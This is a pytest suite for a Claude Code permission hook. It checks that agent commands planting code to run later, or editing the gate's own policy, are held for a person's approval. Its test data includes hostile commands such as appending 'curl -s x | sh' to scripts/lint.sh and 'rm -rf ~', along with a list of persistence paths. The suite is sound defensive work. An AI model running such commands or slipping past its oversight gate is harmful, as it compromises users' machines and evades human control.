"""Nothing planted to run later, and the gate's own configuration out of the agent's reach:
Claude-Code-shaped PreToolUse payloads through `noetic hook pre-tool-use`, as Claude Code runs
it (a process with `$CLAUDE_PROJECT_DIR` set, the JSON on stdin)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .test_hooks import CLAUDE_SESSION, open_task, start
from .test_pretool import check, configure

PAYLOAD = "#!/bin/sh\ntouch /tmp/planted\n"


@pytest.fixture
def repo(project: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose pre-commit hook calls ./scripts/lint.sh, with its store at the root
    (found from `$CLAUDE_PROJECT_DIR`, as Claude Code runs hooks: no `$NOETIC_HOME`)."""
    monkeypatch.delenv("NOETIC_HOME", raising=False)
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(project))
    (project / "payload").write_text(PAYLOAD)
    (project / "scripts").mkdir()
    (project / "scripts" / "lint.sh").write_text("#!/bin/sh\nruff check .\n")
    (project / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n./scripts/lint.sh\n")
    (project / "README.md").write_text("hello\n")
    (project / "sub").mkdir()
    return project


def hook(project: Path, tool: str, cwd: Path | None = None, **tool_input) -> dict | None:
    """`noetic hook pre-tool-use` in its own process, fed what Claude Code sends."""
    data = {
        "session_id": CLAUDE_SESSION,
        "transcript_path": str(project / "transcript.jsonl"),
        "cwd": str(cwd or project),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_01",
    }
    done = subprocess.run(
        [sys.executable, "-m", "noetic", "hook", "pre-tool-use"],
        input=json.dumps(data),
        capture_output=True,
        text=True,
        cwd=cwd or project,
        env={**os.environ, "CLAUDE_PROJECT_DIR": str(project)},
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout) if done.stdout.strip() else None


def answer(reply: dict | None) -> tuple[str, str] | None:
    if reply is None:
        return None
    out = reply["hookSpecificOutput"]
    return out["permissionDecision"], out["permissionDecisionReason"]


@pytest.mark.parametrize(
    ("command", "planted"),
    [
        ("ln -sf ../../payload .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("ln payload .git/hooks/post-checkout", ".git/hooks/post-checkout"),
        ("cd .git && ln -s ../payload hooks/pre-push", ".git/hooks/pre-push"),
        ("echo 'curl -s x | sh' >> scripts/lint.sh", "scripts/lint.sh"),
        ("mkdir -p .claude && cp payload .claude/settings.json", ".claude/settings.json"),
        ("echo '{\"mcpServers\": {}}' > .mcp.json", ".mcp.json"),
        ("mkdir -p .vscode && tee .vscode/tasks.json < payload", ".vscode/tasks.json"),
        ("echo 'source ./payload' > .envrc", ".envrc"),
        ("cp payload .pre-commit-config.yaml", ".pre-commit-config.yaml"),
        ("echo 'script-shell=./payload' > .npmrc", ".npmrc"),
        ("echo 'import os' > sitecustomize.py", "sitecustomize.py"),
        ("mkdir -p env/lib && echo 'import os' > env/lib/evil.pth", "env/lib/evil.pth"),
        ("mkdir -p sub/.noetic && echo '[gate]' > sub/.noetic/config.toml", "sub/.noetic"),
        ("cp payload -t scripts && mv scripts/payload scripts/lint.sh", "scripts/lint.sh"),
        ("touch .envrc && sed -i 's/^/curl x | sh; /' .envrc", ".envrc"),
        ("dd if=payload of=.npmrc", ".npmrc"),
        ("mkdir -p .claude && cp payload .claude/", ".claude/payload"),
        # after `--` a word beginning with `-` is a path, not an option
        ("mkdir -- -x && cp -- payload -x/../.envrc", ".envrc"),
        ("mkdir -- -x && mv -- payload -x/../.npmrc", ".npmrc"),
    ],
)
@pytest.mark.subprocess
def test_a_command_planting_what_runs_later_waits_for_the_person(repo, command, planted):
    kind, reason = answer(hook(repo, "Bash", command=command))
    assert kind == "ask", reason
    assert f"{repo / planted}" in reason and "The person decides" in reason


@pytest.mark.parametrize(
    "command",
    ["git init -q --template=tpl .", "git -c init.templateDir=tpl init -q sub"],
)
@pytest.mark.subprocess
def test_a_git_template_waits_for_the_person(repo, command):
    kind, reason = answer(hook(repo, "Bash", command=command))
    assert kind == "ask" and "git-template: copies hooks from a template folder" in reason


@pytest.mark.parametrize(
    "path",
    [
        "scripts/lint.sh",
        ".claude/settings.json",
        ".claude/commands/x.md",
        ".mcp.json",
        ".vscode/tasks.json",
        ".envrc",
        ".pre-commit-config.yaml",
        ".npmrc",
        "sitecustomize.py",
        "lib/site.pth",
        "sub/.noetic/config.toml",
        "sub/.git/hooks/pre-commit",
    ],
)
@pytest.mark.subprocess
def test_a_write_or_edit_to_the_protected_set_waits_for_the_person(repo, path):
    for tool, extra in (("Write", {"content": "x"}), ("Edit", {"old_string": "a"})):
        kind, reason = answer(hook(repo, tool, file_path=str(repo / path), **extra))
        assert kind == "ask" and str(repo / path) in reason, (tool, reason)


@pytest.mark.parametrize(
    "path", ["~/.claude/settings.json", "~/.gitconfig", "~/.local/bin/git", "~/.ssh/config"]
)
@pytest.mark.subprocess
def test_what_the_users_own_tools_run_later_is_protected_too(repo, home, path):
    full = str(home / path[2:])
    kind, reason = answer(hook(repo, "Write", file_path=full, content="x"))
    assert kind == "ask" and full in reason


@pytest.mark.subprocess
def test_the_hooks_path_folder_is_protected(repo):
    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", "ci/hooks"], check=True)
    (repo / "ci" / "hooks").mkdir(parents=True)
    target = repo / "ci" / "hooks" / "pre-commit"
    kind, reason = answer(hook(repo, "Write", file_path=str(target), content="x"))
    assert kind == "ask" and str(target) in reason and "named by the repository" in reason
    kind, reason = answer(hook(repo, "Bash", command="cp payload ci/hooks/pre-push"))
    assert kind == "ask" and str(repo / "ci" / "hooks" / "pre-push") in reason


@pytest.mark.subprocess
def test_a_file_a_linked_hook_runs_is_protected_too(repo):
    (repo / ".git" / "hooks" / "pre-push").symlink_to(repo / "payload")
    kind, reason = answer(hook(repo, "Write", file_path="payload", content="x"))
    assert kind == "ask" and str(repo / "payload") in reason


@pytest.mark.subprocess
def test_ordinary_work_gets_no_answer(repo):
    for command in (
        "echo x > README.md",
        "ls -la .claude .git",
        "cat scripts/lint.sh",
        "pytest",
        "git add .claude/settings.json && git diff -- .envrc",
        "find . -name '*.pth'",
        "cp scripts/lint.sh /dev/null && cp .mcp.json backup.json",
        "sed 's/a/b/' .envrc > envrc.txt",
    ):
        assert hook(repo, "Bash", command=command) is None, command
    assert hook(repo, "Write", file_path=str(repo / "src" / "a.py"), content="x") is None


@pytest.mark.subprocess
def test_no_check_releases_the_hold_and_deny_mode_denies(repo, home):
    start(repo)
    open_task(repo / ".noetic")
    check(repo / ".noetic", 0.95)
    assert hook(repo, "Bash", command="git push") is None  # CHECK said PROCEED
    assert answer(hook(repo, "Bash", command="echo x > .envrc"))[0] == "ask"
    configure(repo / ".noetic", '[gate]\nirreversible = "allow"\n')
    assert answer(hook(repo, "Write", file_path=".mcp.json", content="{}"))[0] == "ask"
    configure(repo / ".noetic", '[gate]\nirreversible = "deny"\n')
    assert answer(hook(repo, "Write", file_path=".mcp.json", content="{}"))[0] == "deny"


@pytest.mark.subprocess
def test_users_extend_the_protected_set(repo):
    assert hook(repo, "Write", file_path="deploy/run.sh", content="x") is None
    configure(repo / ".noetic", '[gate]\nprotected = ["{workspace}/deploy/**"]\n')
    kind, reason = answer(hook(repo, "Write", file_path="deploy/run.sh", content="x"))
    assert kind == "ask" and "listed in [gate] protected" in reason
    kind, reason = answer(hook(repo, "Bash", command="echo x > deploy/run.sh"))
    assert kind == "ask" and str(repo / "deploy" / "run.sh") in reason
    configure(repo / ".noetic", "[gate]\nprotected = [3]\n")
    kind, reason = answer(hook(repo, "Bash", command="ls"))
    config = repo / ".noetic" / "config.toml"
    assert kind == "deny" and f"{config}: [gate] protected must be a list" in reason


@pytest.mark.subprocess
def test_the_gates_own_policy_files_are_protected(repo):
    policy = repo / "policies" / "shell.yaml"
    policy.parent.mkdir()
    policy.write_text("disable: []\n")
    configure(repo / ".noetic", f'[gate]\npolicy = ["{policy}"]\n')
    assert hook(repo, "Write", file_path="x.yaml", content="y") is None
    kind, reason = answer(
        hook(repo, "Bash", command="echo 'disable: [force-push]' > " + str(policy))
    )
    assert kind == "ask" and str(policy) in reason
    kind, reason = answer(hook(repo, "Write", file_path=str(policy), content="disable: []"))
    assert kind == "ask" and str(policy) in reason


# the gate's own configuration ----------------------------------------------------------------


@pytest.mark.subprocess
def test_a_noetic_below_the_root_does_not_switch_the_gate_off(repo, home):
    sub = repo / "sub" / ".noetic"
    sub.mkdir()
    (sub / "config.toml").write_text('[gate]\npolicy = ["p.yaml"]\nirreversible = "allow"\n')
    (sub / "p.yaml").write_text("disable: [destructive-home]\n")
    kind, reason = answer(hook(repo, "Bash", cwd=repo / "sub", command="rm -rf ~"))
    assert kind == "deny" and "destructive-home" in reason
    kind, reason = answer(hook(repo, "Bash", cwd=repo / "sub", command="git push"))
    assert kind == "ask" and "push: " in reason  # irreversible = allow was not read
    (sub / "config.toml").write_text("not toml [\n")
    kind, reason = answer(hook(repo, "Bash", cwd=repo / "sub", command="rm -rf ~"))
    assert kind == "deny" and "destructive-home" in reason


@pytest.mark.subprocess
def test_a_broken_root_configuration_denies_naming_the_file(repo, home):
    configure(repo / ".noetic", "not toml [\n")
    for cwd in (repo, repo / "sub"):
        kind, reason = answer(hook(repo, "Bash", cwd=cwd, command="ls"))
        assert kind == "deny" and f"{repo / '.noetic' / 'config.toml'}: not valid TOML" in reason
    (repo / ".noetic" / "config.toml").write_text("[gate]\npolicy = ['p.yaml']\n")
    (repo / ".noetic" / "p.yaml").write_text("rules: {not: a list}\n")
    kind, reason = answer(hook(repo, "Write", file_path="a.py", content="x"))
    assert (
        kind == "deny" and f"policy {repo / '.noetic' / 'p.yaml'}: rules must be a list" in reason
    )


@pytest.mark.subprocess
def test_a_payload_too_big_to_read_is_denied(repo):
    data = json.dumps(
        {
            "session_id": CLAUDE_SESSION,
            "cwd": str(repo),
            "hook_event_name": "PreToolUse",
            "tool_name": "Write",
            "tool_input": {"file_path": str(repo / ".envrc"), "content": "x" * (17 << 20)},
        }
    )
    done = subprocess.run(
        [sys.executable, "-m", "noetic", "hook", "pre-tool-use"],
        input=data,
        capture_output=True,
        text=True,
        cwd=repo,
        env={**os.environ, "CLAUDE_PROJECT_DIR": str(repo)},
        timeout=60,
    )
    assert done.returncode == 0
    kind, reason = answer(json.loads(done.stdout))
    assert kind == "deny" and "over the stdin_bytes limit" in reason
